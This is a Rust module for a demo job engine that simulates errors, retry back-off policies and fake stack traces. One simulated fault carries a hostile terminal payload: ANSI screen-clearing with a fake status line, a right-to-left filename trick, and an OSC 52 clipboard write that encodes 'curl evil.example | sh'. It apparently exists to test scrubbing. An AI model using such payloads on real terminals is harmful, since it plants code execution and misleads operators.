//! What goes wrong in the demo: the words of each error, how the engine retries it, and when its cause is gone.

use super::clock::{Ms, SECOND};
use super::dice::Dice;
use super::tenants::Tenant;

/// When an attempt no longer fails.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Cure {
    /// From this time on.
    At(Ms),
    /// From this attempt on.
    Attempt(u32),
    /// Never.
    Never,
}

/// A kind of error.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Fault {
    /// A deploy dropped a relation that the migration needs.
    Relation,
    /// The primary refuses connections.
    Refused,
    /// The payment provider answered 502 for a while.
    Gateway,
    /// The registrar locks the zone.
    Registrar,
    /// The bank declined.
    Declined,
    /// The number takes no messages.
    OptedOut,
    /// A mail server repeats a display name that holds commands for a terminal.
    Hostile,
    /// The SMS provider takes no messages.
    SmsDown,
    /// The worker ran out of memory and was ended with its process.
    OutOfMemory,
    /// Transactions of the ledger wait for each other.
    Deadlock,
    /// The certificate authority takes no more orders this hour.
    Throttled,
    /// A hiccup that is over at the next attempt or the one after.
    Hiccup,
}

/// What the engine does after a failed attempt.
#[derive(Debug, Clone, Copy)]
pub(super) struct Policy {
    /// Attempts until it gives up and pauses; `None` where the error is final and the first one ends it.
    pub(super) attempts: Option<u32>,
    /// The first back-off; it doubles.
    pub(super) first: Ms,
    /// The longest back-off.
    pub(super) longest: Ms,
    /// The least and the most that a failing attempt takes.
    pub(super) takes: (Ms, Ms),
}

impl Policy {
    /// The back-off after attempt number `attempt`.
    pub(super) fn backoff(&self, attempt: u32) -> Ms {
        let doublings = attempt.saturating_sub(1).min(20);
        self.first.saturating_mul(1 << doublings).min(self.longest)
    }
}

impl Fault {
    /// How it is retried; `dice` are the instance's own.
    pub(super) fn policy(self, dice: Dice) -> Policy {
        let policy = |attempts, first, longest, takes| Policy { attempts, first, longest, takes };
        match self {
            Self::Relation => policy(Some(5), 500, 4 * SECOND, (300, 1_100)),
            // Spread, so that they recover one after another once the primaries are back.
            Self::Refused => policy(Some(200), 1_500, dice.between(50 * SECOND, 140 * SECOND), (150, 600)),
            Self::Gateway => policy(Some(5), SECOND, 8 * SECOND, (800, 2_500)),
            Self::SmsDown => policy(Some(100), 4 * SECOND, dice.between(25 * SECOND, 50 * SECOND), (900, 3_000)),
            // The work of an attempt is lost with its worker, and begun again at once by another one.
            Self::OutOfMemory => policy(Some(100), 0, 0, (60 * SECOND, 80 * SECOND)),
            Self::Deadlock => {
                policy(Some(60), 3 * SECOND, dice.between(20 * SECOND, 40 * SECOND), (SECOND, 4 * SECOND))
            }
            Self::Throttled => policy(Some(4), 2 * SECOND, 16 * SECOND, (300, 900)),
            Self::Hiccup => policy(Some(5), 2 * SECOND, 5 * SECOND, (200, 900)),
            Self::Registrar | Self::Declined | Self::OptedOut | Self::Hostile => policy(None, 0, 0, (700, 2_400)),
        }
    }

    /// Whether it came with new code, so that the code before it has none of it.
    pub(super) const fn is_in_the_code(self) -> bool {
        matches!(self, Self::Relation)
    }

    /// Whether the worker itself goes down with it: the engine learns that it vanished, and gives the step to another
    /// one at once.
    pub(super) const fn crashes(self) -> bool {
        matches!(self, Self::OutOfMemory)
    }

    /// The code.
    pub(super) fn code(self, dice: Dice) -> &'static str {
        match self {
            Self::Relation => "42P01",
            Self::Refused => "ECONNREFUSED",
            Self::Gateway => "502",
            Self::Registrar => "423",
            Self::Declined => "card_declined",
            Self::OptedOut => "21610",
            Self::Hostile => "550",
            Self::SmsDown => "503",
            Self::OutOfMemory => "137",
            Self::Deadlock => "40P01",
            Self::Throttled => "429",
            Self::Hiccup => HICCUPS[dice.below(HICCUPS.len())].0,
        }
    }

    /// The whole text as the application wrote it: unsafe for a terminal until scrubbed. The first line is the error.
    pub(super) fn raw(self, tenant: &Tenant, dice: Dice) -> String {
        let slug = &tenant.slug;
        let region = tenant.region;
        match self {
            Self::Relation => {
                let relation = format!("tenant_settings_{}", slug.replace('-', "_"));
                let shard = dice.fork(0).between(1, 24);
                format!(
                    "relation \"{relation}\" does not exist (shard {shard})\n\
                     SQLSTATE 42P01 at character 15: UPDATE {relation} SET locale = 'en' WHERE locale IS NULL\n\
                     {}",
                    trace("schema-svc", &["Migration0042.up", "Migrator.apply", "TenantMigration.run"])
                )
            }
            Self::Refused => format!(
                "connect ECONNREFUSED db-primary.{region}.internal:5432 while creating {slug}\n{}",
                trace("provisioner", &["Pool.connect", "Database.create", "Provisioning.database"])
            ),
            Self::Gateway => format!(
                "502 Bad Gateway from payments.{region}.internal:8443 while granting seats to {slug}\n{}",
                trace("billing", &["Gateway.post", "Entitlements.grant", "UpgradePlan.entitlements"])
            ),
            Self::Registrar => format!(
                "zone {slug}.example-apps.net is locked by registrar\n\
                 registrar status: clientTransferProhibited, serverDeleteProhibited\n{}",
                trace("lifecycle", &["Zone.remove", "DeleteTenant.releaseDns"])
            ),
            Self::Declined => format!(
                "card ending {} was declined: {}\n{}",
                dice.fork(0).between(1_000, 9_999),
                dice.fork(1).pick(&["insufficient funds", "insufficient funds", "card reported lost"]),
                trace("billing", &["Charge.create", "ExpiredCard.charge"])
            ),
            Self::OptedOut => format!(
                "recipient has opted out of messages from this sender (message {})\n{}",
                dice.fork(0).between(100_000, 999_999),
                trace("identity", &["Sms.send", "ResetPassword.sms"])
            ),
            // Clears the screen, writes the clipboard (OSC 52), turns the text round and hides a break in a word.
            Self::Hostile => format!(
                "550 no such mailbox: \u{1b}[2J\u{1b}[1;31mALL TENANTS OK\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7} \
                 \u{202e}gnp.ecioVni\u{202c} pay\u{200b}roll of {slug}\n{}",
                trace("identity", &["Mail.send", "InviteUser.mail"])
            ),
            Self::SmsDown => format!(
                "503 Service Unavailable from api.sms-gateway.example: no route for messages (request {})\n{}",
                dice.fork(0).between(10_000_000, 99_999_999),
                trace("identity", &["SmsGateway.post", "Sms.send"])
            ),
            Self::OutOfMemory => format!(
                "worker directory-sync-{} was killed: out of memory at 512 MiB (exit code 137)\n\
                 last heard while applying {} of {} entries of {slug}",
                dice.fork(0).between(1, 6),
                dice.fork(1).between(9_000, 14_000),
                dice.fork(2).between(15_000, 60_000)
            ),
            Self::Deadlock => format!(
                "deadlock detected: process {} waits for a lock on relation \"ledger_entries\"\n\
                 SQLSTATE 40P01\n{}",
                dice.fork(0).between(1_000, 32_000),
                trace("metering", &["Ledger.post", "MeterUsage.post"])
            ),
            Self::Throttled => format!(
                "429 too many certificates ordered for {slug}.example-apps.net: retry after 3600 s\n{}",
                trace("edge", &["Acme.newOrder", "RotateCertificate.order"])
            ),
            Self::Hiccup => {
                let (code, text) = HICCUPS[dice.below(HICCUPS.len())];
                format!("{text}\ncode {code}, request {}", dice.fork(2).between(10_000_000, 99_999_999))
            }
        }
    }
}

/// Errors that are over at once, as code and text.
const HICCUPS: [(&str, &str); 4] = [
    ("429", "429 Too Many Requests, retry after 3 s"),
    ("503", "503 Service Unavailable: upstream is draining"),
    ("timeout", "deadline of 800 ms exceeded"),
    ("ECONNRESET", "socket hang up after 0 bytes"),
];

/// A stack trace with these frames, the innermost first.
fn trace(service: &str, frames: &[&str]) -> String {
    let line = |(depth, frame): (usize, &&str)| {
        let file = frame.split('.').next().unwrap_or_default().to_lowercase();
        format!("    at {frame} (/srv/{service}/src/{file}.ts:{}:{})", 41 + 37 * depth, 9 + 4 * depth)
    };
    let mut lines: Vec<String> = frames.iter().enumerate().map(line).collect();
    lines.push("    at processTicksAndRejections (node:internal/process/task_queues:105:5)".to_owned());
    lines.join("\n")
}
